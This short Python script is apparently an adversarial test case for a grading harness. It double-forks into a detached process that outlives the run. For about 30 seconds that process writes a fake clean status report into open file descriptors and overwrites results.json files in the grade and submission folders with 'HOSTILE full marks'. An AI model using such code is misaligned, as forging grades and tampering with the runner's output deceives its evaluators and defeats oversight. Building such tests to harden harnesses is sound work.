# attack: a detached process that keeps rewriting results, grades and the runner's output
# base: handout
import os
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        fake = b'{"errors": [], "probes": [], "processes": 1}'
        for _ in range(600):
            for fd in range(3, 20):
                try:
                    os.write(fd, fake)
                except OSError:
                    pass
            for folder in ("GRADES_DIR", "/tmp", "SUBMISSIONS_DIR", "HOST_MARKER"):
                try:
                    with open(os.path.join(folder, "results.json"), "w") as f:
                        f.write("HOSTILE full marks")
                except OSError:
                    pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
time.sleep(0.5)
